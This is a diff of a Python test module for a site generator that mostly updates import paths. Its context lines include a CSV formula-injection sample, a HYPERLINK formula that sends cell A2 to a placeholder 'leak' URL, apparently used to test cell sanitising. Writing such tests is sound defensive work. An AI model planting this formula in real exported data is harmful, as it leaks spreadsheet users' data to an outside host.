@@ -26,11 +26,11 @@ from hypothesis import strategies as st
 
 from conftest import UNIT_TOML, post_text, run_cli, write_site
 from hostile_files import tiny_pdf
-from generator import urls
-from generator.build import Builder, BuildOptions
-from generator.csvout import csv_text, safe_cell
-from generator.parse import decode
-from generator.sources import unit_name_problem
+from generator.core import urls
+from generator.build.builder import Builder, BuildOptions
+from generator.write.csvout import csv_text, safe_cell
+from generator.parse.post import decode
+from generator.load.sources import unit_name_problem
 
 AS_OF = "2026-11-27"
 HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A2,"点击")'
